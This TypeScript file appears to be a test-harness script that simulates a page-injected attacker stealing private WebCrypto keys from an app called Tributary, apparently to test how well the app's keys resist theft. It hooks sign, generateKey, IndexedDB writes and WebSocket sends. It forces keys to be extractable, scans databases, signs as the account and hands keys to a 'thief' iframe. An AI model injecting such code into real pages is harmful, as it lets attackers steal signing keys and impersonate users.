import { decodeHex, encodeHex } from "@tributary/protocol";
import type { CaughtKey, InjectedScript } from "../theft-contract.ts";
import { keysWithin, kindOf, takenOutBy } from "./key-theft.ts";

/** Runs before everything else of its page, which notices nothing. */
const caught = new Map<CryptoKey, Set<string>>();
const frames: Uint8Array[] = [];

function note(key: unknown, where: string): void {
  if (!(key instanceof CryptoKey) || key.type !== "private") return;
  caught.set(key, (caught.get(key) ?? new Set()).add(where));
}

const { sign, generateKey } = SubtleCrypto.prototype;
SubtleCrypto.prototype.sign = function (algorithm, key, data) {
  note(key, "sign");
  return sign.call(this, algorithm, key, data);
};
/** In the address of the page: it is not content with watching, and has keys made that can be exported. */
const weakens = location.hash === "#weakens";
SubtleCrypto.prototype.generateKey = async function (this: SubtleCrypto, ...args: unknown[]) {
  if (weakens) args[1] = true;
  const made = (await (generateKey as (...all: unknown[]) => Promise<unknown>).apply(
    this,
    args,
  )) as CryptoKeyPair;
  note(made.privateKey, "generateKey");
  return made;
} as typeof generateKey;

const { put } = IDBObjectStore.prototype;
IDBObjectStore.prototype.put = function (value, key) {
  note((value as Partial<CryptoKeyPair> | undefined)?.privateKey, "what is put into a database");
  return put.call(this, value, key);
};

const { send } = WebSocket.prototype;
WebSocket.prototype.send = function (data) {
  if (ArrayBuffer.isView(data))
    frames.push(new Uint8Array(data.buffer, data.byteOffset, data.byteLength).slice());
  send.call(this, data);
};

async function lookEverywhere(): Promise<void> {
  const { Tributary, hls, document } = window as unknown as Record<string, unknown>;
  for (const key of keysWithin([Tributary, hls, document])) note(key, "objects of the page");
  for (const { name } of await indexedDB.databases())
    for (const value of await valuesOf(name!))
      note((value as Partial<CryptoKeyPair>).privateKey, "its database");
}

async function valuesOf(name: string): Promise<readonly unknown[]> {
  const opened = await answerOf(indexedDB.open(name));
  const values: unknown[] = [];
  for (const store of opened.objectStoreNames)
    values.push(...((await answerOf(opened.transaction(store).objectStore(store).getAll())) as unknown[]));
  opened.close();
  return values;
}

function answerOf<T>(request: IDBRequest<T>): Promise<T> {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error as Error);
  });
}

function accountKey(): CryptoKey {
  for (const [key, where] of caught) if (where.has("its database")) return key;
  throw new Error("there is no account's key");
}

const injected: InjectedScript = {
  async catchKeys() {
    await lookEverywhere();
    const keys: CaughtKey[] = [];
    for (const [key, where] of caught)
      keys.push({ kind: kindOf(key), caughtAt: [...where].sort(), takenOutBy: await takenOutBy(key) });
    return keys;
  },
  sent: () => frames.map((frame) => encodeHex(frame)),
  async signAsAccount(message) {
    const bytes = decodeHex(message) as Uint8Array<ArrayBuffer>;
    return encodeHex(new Uint8Array(await crypto.subtle.sign("Ed25519", accountKey(), bytes)));
  },
  handOver(thiefPage) {
    const frame = document.createElement("iframe");
    frame.src = thiefPage;
    return new Promise((resolve) => {
      addEventListener("message", ({ source, data }) => {
        if (source !== frame.contentWindow) return;
        if (data === "ready") frame.contentWindow!.postMessage([...caught.keys()], "*");
        if (data === "kept") resolve();
      });
      document.body.append(frame);
    });
  },
};

Object.assign(window, { injected });
